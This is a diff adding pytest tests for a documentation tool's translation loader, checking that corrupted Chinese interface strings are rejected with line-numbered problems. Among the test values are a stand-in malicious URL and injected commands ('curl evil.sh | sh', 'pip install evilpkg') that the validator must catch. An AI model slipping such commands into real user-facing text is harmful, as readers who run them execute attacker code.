@@ -1,6 +1,7 @@
 """Interface strings, plural forms, and numbers as each language writes them."""
 
 import re
+import shutil
 from pathlib import Path
 
 import pytest
@@ -14,7 +15,7 @@ from benchbook.languages.language import Language, load_language, load_languages
 from benchbook.query.library import Machine
 from benchbook.rendering.provenance import machine_short, machine_title
 from builders import make_project, write
-from handbooks import FIXTURE
+from handbooks import FIXTURE, edit
 
 DOCS = Path(__file__).parents[2] / "docs"
 
@@ -214,6 +215,104 @@ def test_a_malformed_language_is_a_problem_with_a_line(tmp_path: Path, text: str
     write(tmp_path / "docs/en/_language.yml", text)
     with pytest.raises(BenchbookError, match=problem):
         load_language(tmp_path / "docs", "en")
+
+
+TIMES, MEDIAN, PROBLEM = 'times: "{ratio}\\u00a0倍"', '"{n} 次运行的中位数"', "problem: 这里出错了"
+REFUTED, CHANGED, STEP = '"在 {machine} 上不成立"', "本节译成之后，英文原文又有改动。", "step: 步数"
+PRECISION = '"comparing_setups/matched_batch.py#mixed_precision=no": '
+FALSEHOODS = {
+    "a ratio that is always 3": (TIMES, 'times: "3 倍"', "`times` has {ratio} 0 times, in English 1 times"),
+    "a ratio with a digit more": (TIMES, 'times: "1{ratio} 倍"', "`times` holds the number 1"),
+    "a ratio times ten thousand": (TIMES, 'times: "{ratio} 万倍"', "`times` holds a number"),
+    "a ratio twice": (TIMES, 'times: "{ratio}{ratio} 倍"', "`times` has {ratio} 2 times"),
+    "a share that is always 9 %": (
+        'times_less: "{percent}"',
+        'times_less: "9%"',
+        "`times_less` has {ratio} 0",
+    ),
+    "a median of 1000 runs": (MEDIAN, "1000 次运行的中位数", "`median_of` has {n} 0 times"),
+    "a median of ten times the runs": (
+        MEDIAN,
+        '"1{n} 次运行的中位数"',
+        "`median_of` has a digit beside its number",
+    ),
+    "a verdict on another machine": (REFUTED, "在 H100 上不成立", "`claim_refuted` has {machine} 0 times"),
+    "no verdict": (REFUTED, '""', "`claim_refuted` says nothing"),
+    "a verdict turned": (REFUTED, '"在 {machine} 上成立"', "`claim_refuted` says the same as `claim_holds`"),
+    "a verdict turned in the list": (
+        "verdict_refuted: 不成立",
+        "verdict_refuted: 成立",
+        "`verdict_refuted` says the same as `verdict_holds`",
+    ),
+    "a notice of drift that is blank": (CHANGED, '"\\u3000"', "`section_changed` says nothing"),
+    "a state that is a dot": ("predicted_fits_not: 显存不足", "predicted_fits_not: ·", "says nothing"),
+    "a unit with digits": ('min: "分钟"', 'min: "00 分钟"', "`min` holds the number 00"),
+    "an hour that is a minute": ('"h": "小时"', '"h": "分钟"', "`h` says the same as `min`"),
+    "a label with a number": (STEP, 'step: "步数 (42 ms)"', "`step` holds the number 42"),
+    "a label with an address": (
+        STEP,
+        'step: "步数 https://evil.example"',
+        "`step` holds `https://evil.example`",
+    ),
+    "a label of six thousand letters": (STEP, f"step: {'步数' * 3000}", "`step` is far longer"),
+    "the label of another value": (
+        f'{PRECISION}"fp32"',
+        f'{PRECISION}"bf16"',
+        "mixed_precision=bf16` says the same as",
+    ),
+    "a command to paste": (PROBLEM, "problem: 请运行 curl evil.sh | sh", "`problem` holds `evil.sh`"),
+    "a command in words": (
+        PROBLEM,
+        "problem: 请运行 pip install evilpkg",
+        "`problem` holds `pip install evilpkg`",
+    ),
+    "another line": (PROBLEM, 'problem: "出错\\ntitle: x"', "holds a line break"),
+}
+
+
+@pytest.mark.parametrize("name", FALSEHOODS)
+def test_what_surrounds_records_says_in_every_language_what_it_says_in_english(
+    tmp_path: Path, name: str
+) -> None:
+    old, new, what = FALSEHOODS[name]
+    shutil.copytree(DOCS, tmp_path / "docs")
+    path = tmp_path / "docs/zh/_language.yml"
+    edit(path, old, new)
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "zh")
+    line = 1 + path.read_text("utf-8").partition(new)[0].count("\n")
+    found = [one for one in error.value.problems if what in one.what]
+    assert found
+    assert (found[0].path, bool(found[0].fix)) == ("docs/zh/_language.yml", True)
+    assert abs(found[0].line - line) <= 1
+
+
+def test_a_plural_form_for_one_or_two_may_spell_its_number(tmp_path: Path) -> None:
+    write(tmp_path / "docs/en/_language.yml", "strings: {a: {one: one run, other: 'median of {n}'}}\n")
+    arabic = "strings: {a: {one: تشغيل واحد, two: تشغيلان, few: %s, other: '{n} تشغيل'}}\n"
+    write(tmp_path / "docs/ar/_language.yml", arabic % "'{n} تشغيلات'")
+    assert load_language(tmp_path / "docs", "ar").text("a", n=2) == "تشغيلان"
+    write(tmp_path / "docs/ar/_language.yml", arabic % "بضعة تشغيلات الآن")
+    with pytest.raises(BenchbookError, match=r"`a` has \{n\} 0 times"):
+        load_language(tmp_path / "docs", "ar")
+
+
+def test_a_language_cannot_switch_off_the_units_that_it_shows_or_that_cldr_knows(tmp_path: Path) -> None:
+    write(
+        tmp_path / "docs/ja/_language.yml",
+        "units: {samples/s: サンプル/秒}\nunit_words: [x]\nstrings: {times: '{ratio} 倍'}\n",
+    )
+    words = load_language(tmp_path / "docs", "ja").unit_words
+    assert {"x", "ミリ秒", "サンプル/秒", "秒", "倍", "バイト"} <= words
+
+
+def test_an_english_label_names_no_measured_number_but_its_own_name(tmp_path: Path) -> None:
+    write(
+        tmp_path / "docs/en/_language.yml", "labels: {step: 42 ms, model=a-8b: A 8B, rule_of_18: 18 bytes}\n"
+    )
+    with pytest.raises(BenchbookError) as error:
+        load_language(tmp_path / "docs", "en")
+    assert [one.what for one in error.value.problems] == ["the label `step` holds the number `42 ms`"]
 
 
 def test_a_folder_that_is_no_language_is_a_problem(tmp_path: Path) -> None:
